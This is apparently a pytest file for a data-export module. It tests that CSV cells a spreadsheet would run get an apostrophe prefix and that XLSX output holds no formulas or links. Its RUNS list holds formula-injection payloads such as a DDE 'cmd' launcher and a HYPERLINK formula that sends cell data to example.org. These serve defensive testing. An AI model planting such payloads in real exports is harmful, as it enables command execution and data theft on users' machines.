"""No cell of any file runs when a spreadsheet opens it, and nothing that is no formula is touched."""

import csv
import io
import zipfile
from datetime import date

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from exports import write
from tests.exports.tables import about, patient, statements

RUNS = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"Click")',
    "+1+cmd|'/C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\tplain",
    "\rplain",
    "\nplain",
    "\x00=1+1",
    "  =1+1",
    " \t@SUM(A1)",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "=",
    "-",
    "'=1+1",
    "'' =1+1",
]
HARMLESS = [
    "a=b",
    "1-2",
    "'tis said",
    "mail@example.org",
    "2020-04-15",
    " a",
    "",
    "(=1)",
    "–1",
    "x\n=1+1",
    "''",
]


def written(text):
    """The one cell of a CSV that holds this text."""
    table = pa.table({"text": [text]})
    file = write(table, about(table), "csv").decode("utf-8-sig")
    return next(iter(list(csv.reader(io.StringIO(file, newline="")))[1]), "")


@pytest.mark.parametrize("text", RUNS, ids=ascii)
def test_csv_puts_an_apostrophe_before_what_a_spreadsheet_would_run(text):
    assert written(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS, ids=ascii)
def test_csv_leaves_other_text_alone(text):
    assert written(text) == text


@patient
@given(st.sampled_from(" '\t\r\n=+-@＝＋－＠") | st.text(max_size=3), st.text(max_size=5))
def test_no_text_begins_a_csv_cell_so_that_it_runs(start, rest):
    assert not written(start + rest).lstrip(" ").startswith(tuple("\t\r\n\x00=+-@＝＋－＠"))


@patient
@given(st.text("'= \n-a", max_size=6), st.text("'= \n-a", max_size=6))
def test_no_two_texts_become_the_same_cell(one, other):
    assert (written(one) == written(other)) == (one == other)


def test_csv_escapes_joined_lists_names_of_columns_and_coded_text_too():
    table = pa.table(
        {
            "=name": ["x"],
            "items": [["=1", "b"]],
            "coded": pa.array(["@a"]).dictionary_encode(),
            "large": ["+1"],
        }
    )
    table = table.set_column(3, "large", table["large"].cast(pa.large_string()))
    file = write(table, about(table), "csv").decode("utf-8-sig")
    assert file == '"\'=name","items","coded","large"\r\n"x","\'=1|b","\'@a","\'+1"\r\n'


def test_csv_leaves_numbers_and_dates_as_they_are():
    table = pa.table({"n": [-2], "x": [-74.006], "day": [date(2020, 4, 15)]})
    assert write(table, about(table), "csv").endswith(b"\r\n-2,-74.006,2020-04-15\r\n")


def test_excel_holds_neither_formulas_nor_links():
    table = pa.table({"text": [*RUNS, "http://example.org", "mailto:a@example.org", "{=1+1}", "internal:About!A1"]})
    hostile = about(table, title="=1+1", filters=(("=1", "=2"),), url="http://example.org", citation="@x")
    with zipfile.ZipFile(io.BytesIO(write(table, hostile, "xlsx"))) as book:
        sheets = [book.read(name) for name in book.namelist() if name.startswith("xl/worksheets/")]
        assert not [name for name in book.namelist() if "rels" in name and "sheet" in name]
    assert len(sheets) == 2
    assert not [sheet for sheet in sheets if b"<f" in sheet or b"<hyperlink" in sheet]


def test_json_and_parquet_hold_formulas_as_they_were_said():
    assert b'"=HYPERLINK(0)"' in write(statements(), about(statements()), "json")
